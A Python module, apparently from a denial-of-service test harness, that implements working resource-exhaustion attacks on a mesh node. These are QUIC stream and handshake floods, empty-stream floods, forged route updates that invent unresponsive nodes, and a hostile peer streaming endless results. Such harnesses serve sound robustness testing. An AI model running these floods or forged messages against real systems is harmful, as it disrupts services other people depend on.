"""Floods of streams and of work: QUIC that leads to nothing, results without end."""

import contextlib
import json
import socket
import time
from collections.abc import Iterator

import trio
from hostile import forge
from hostile.dialer import Dialer, connect, first_datagram, step
from hostile.peer import LinkLost, Peer, unique

from floods.attack import REOPEN_PAUSE, Limit, Messages, Sent, Target

STREAMS_EACH = 100
"""Streams on one connection; the engine lets a dialer open 128."""

IDLE_STREAMS = 2048

STREAMS_AT_ONCE = 10
"""Streams opened together on one connection; a victim drops what nobody accepts in time."""

DIALED_AT_ONCE = 10
"""Connections that shake hands at the same time, where ever more are opened."""

DEAF_NODES = 500
"""Nodes that are dialed and never answer."""

ROUTES_SETTLE = 0.3
"""Seconds within which a victim has routes to what it was told of: it computes them every 0.1 s."""

HANDSHAKE_PATIENCE = 20.0
"""Seconds within which our handshakes must end."""

STEP = 0.005
"""Seconds between two looks at what connections have to say, when they have nothing."""

CHUNK = 256 * 1024
"""Bytes of results in one write."""

SUBMITTER_PATIENCE = 10.0
"""Seconds for each answer of the submitter's node."""


def initials(service: str) -> Messages:
    """Begin connections with a service from ever new services, ours and an honest node's."""

    def make(name: str) -> Iterator[bytes]:
        datagram = first_datagram()
        for number, own in enumerate(forge.names("")):
            source = "left" if number % 2 else name
            yield forge.data(source, forge.VICTIM, own, service, datagram)

    return make


def _dial(peer: Peer, number: int, limit: Limit, service: str = "control") -> list[Dialer]:
    dialers = [Dialer(peer.name, unique(), service, now=time.monotonic()) for _ in range(number)]
    connect(dialers, peer, time.monotonic, min(HANDSHAKE_PATIENCE, limit.seconds))
    return [dialer for dialer in dialers if dialer.is_up]


def idle_streams(target: Target, limit: Limit) -> Sent:
    """Open as many streams to ``control`` as there are places, and say nothing on them."""
    sent = Sent()
    while limit.seconds:
        try:
            with Peer.open("tcp", target.tcp, f"idler{sent.links}") as peer:
                sent.links += 1
                dialers = _dial(peer, -(-IDLE_STREAMS // STREAMS_EACH), limit)
                while limit.seconds and not all(dialer.is_over for dialer in dialers):
                    for dialer in dialers:
                        sent.messages += _open_some(dialer)
                    step(dialers, peer, time.monotonic)
                    peer.say_alive()
                    time.sleep(STEP)
                sent.extra["greeted"] = sum(len(dialer.heard) for dialer in dialers)
                sent.bytes += peer.wire.sent
        except LinkLost:
            time.sleep(REOPEN_PAUSE)
    return sent


def handshakes(target: Target, limit: Limit, service: str = "control") -> Sent:
    """Shake hands with a service, say nothing, and do it again, without an end to any."""
    sent = Sent()
    while limit.seconds:
        try:
            with Peer.open("tcp", target.tcp, f"shaker{sent.links}") as peer:
                sent.links += 1
                while limit.seconds:
                    sent.messages += len(_dial(peer, DIALED_AT_ONCE, limit, service))
                    peer.say_alive()
                sent.bytes += peer.wire.sent
        except LinkLost:
            time.sleep(REOPEN_PAUSE)
    return sent


def handshakes_without_certificate(target: Target, limit: Limit) -> Sent:
    """Shake hands with a service that asks for certificates, up to the message with ours."""
    return handshakes(target, limit, forge.PRIVATE)


def _open_some(dialer: Dialer) -> int:
    """Open a few streams more, not faster than they are accepted; return how many."""
    opened = dialer.quic.get_next_available_stream_id() // 4
    few = min(STREAMS_AT_ONCE, STREAMS_EACH - opened)
    if len(dialer.heard) < opened - STREAMS_AT_ONCE:
        return 0  # those before were not greeted yet
    for _ in range(few):
        dialer.open_stream()
    return few


def empty_streams(target: Target, limit: Limit) -> Sent:
    """Open streams that end before their first byte, on ever more connections."""
    sent = Sent()
    while limit.allows(sent.messages):
        try:
            with Peer.open("tcp", target.tcp, f"empty{sent.links}") as peer:
                sent.links += 1
                held: list[Dialer] = []
                while limit.allows(sent.messages):
                    held += _dial(peer, DIALED_AT_ONCE, limit)
                    sent.messages += sum(_open_empty(dialer) for dialer in held)
                    step(held, peer, time.monotonic)
                    held = [dialer for dialer in held if not dialer.is_over]
                    peer.say_alive()
                while limit.seconds:
                    step(held, peer, time.monotonic)
                    peer.say_alive()
                    time.sleep(STEP)
                sent.bytes += peer.wire.sent
        except LinkLost:
            time.sleep(REOPEN_PAUSE)
    return sent


def _open_empty(dialer: Dialer) -> int:
    """Open as many streams as the victim grants; return how many."""
    quic = dialer.quic
    opened = 0
    while (stream_id := quic.get_next_available_stream_id()) // 4 < quic._remote_max_streams_bidi:
        quic.send_stream_data(stream_id, b"", end_stream=True)
        opened += 1
    return opened


def cancelled_dials(target: Target, limit: Limit) -> Sent:
    """Submit work for nodes that never answer, and take it back while they are being dialed."""
    sent = Sent()
    while limit.allows(sent.messages):
        try:
            with Peer.open("tcp", target.tcp, f"deaf{sent.links}") as peer:
                sent.links += 1
                nodes = [f"{peer.name}-{number}" for number in range(DEAF_NODES)]
                for message in _deaf_nodes(peer.name, nodes):
                    peer.send(message)
                time.sleep(ROUTES_SETTLE)
                for node in nodes:
                    if not limit.allows(sent.messages):
                        break
                    peer.say_alive()
                    _submit_and_cancel(target.control_socket, node)
                    peer.drain()
                    sent.messages += 1
                sent.bytes += peer.wire.sent
        except (LinkLost, OSError):
            time.sleep(REOPEN_PAUSE)
    return sent


def _deaf_nodes(peer: str, nodes: list[str]) -> Iterator[bytes]:
    """Yield what makes the victim believe in nodes with a control service behind us."""
    for node in nodes:
        yield forge.update(node, UpdateID=unique(), Connections={peer: 1}, ForwardingNode=peer)
        tags = {"type": "Control Service", "meshnode": "many-streams"}
        yield forge.advert(node, "control", Tags=tags)
    known = {forge.VICTIM: 1} | dict.fromkeys(nodes, 1)
    yield forge.update(peer, UpdateID=unique(), UpdateSequence=2, Connections=known)


class Submitter:
    """A user of the victim, on its own control socket."""

    def __init__(self, path: str) -> None:
        self._socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self._socket.settimeout(SUBMITTER_PATIENCE)
        self._socket.connect(path)
        self._lines = self._socket.makefile("rb")
        self._lines.readline()

    def ask(self, line: str) -> str:
        """Send a command line and return the line that answers it."""
        self._socket.sendall(line.encode() + b"\n")
        return self.read_line()

    def read_line(self) -> str:
        """Return the next line of the node."""
        return self._lines.readline().decode()

    def end_payload(self) -> None:
        """Say that there is no more payload."""
        self._socket.shutdown(socket.SHUT_WR)

    def close(self) -> None:
        """End the session."""
        self._lines.close()
        self._socket.close()


def _submit_and_cancel(path: str, node: str) -> None:
    with contextlib.closing(Submitter(path)) as user:
        created = user.ask(f"work submit {node} echo")
        user.end_payload()
        unit = created.partition("with ID ")[2][:8]
        if unit:
            time.sleep(STEP)  # the dialing begins
            with contextlib.closing(Submitter(path)) as other:
                other.ask(f"work cancel {unit}")
                other.ask(f"work release {unit}")


def endless_results(target: Target, limit: Limit) -> Sent:
    """Be given a unit by a user of the victim, and send results of it that never end."""
    # Imported here: it is most of a node, which all other attackers do without.
    from hostile.runner import CREATED, STREAMING, UNIT, Stream, runner

    sent = Sent()

    async def answer(line: bytes, stream: Stream) -> None:
        try:
            command = json.loads(line)
        except ValueError:
            return
        running = json.dumps({"State": 1, "Detail": "Running", "StdoutSize": 1 << 50}).encode()
        match command.get("subcommand"):
            case "submit":
                await stream.send_all(CREATED)
                while await stream.receive_some(65536):
                    pass
                await stream.send_all(json.dumps({"unitid": UNIT, "result": "x"}).encode() + b"\n")
            case "results":
                await stream.send_all(STREAMING)
                while limit.seconds:
                    await stream.send_all(bytes(CHUNK))
                    sent.bytes += CHUNK
                    sent.messages += 1
            case "watch":
                await stream.send_all(running + b"\n")
                await trio.sleep(limit.seconds)
            case _:
                await stream.send_all(running + b"\n")

    async def main() -> None:
        with trio.move_on_after(limit.seconds):
            async with runner("evil", target.tcp, answer) as mesh:
                sent.links = 1
                await mesh.wait_reachable(forge.VICTIM)
                await trio.to_thread.run_sync(_submit, target.control_socket)
                await trio.sleep_forever()

    trio.run(main)
    return sent


def _submit(path: str) -> None:
    with contextlib.closing(Submitter(path)) as user:
        user.ask("work submit evil echo")
        user.end_payload()
        # On a busy machine the attack may be over before the work is begun: no answer comes then.
        with contextlib.suppress(TimeoutError):
            user.read_line()
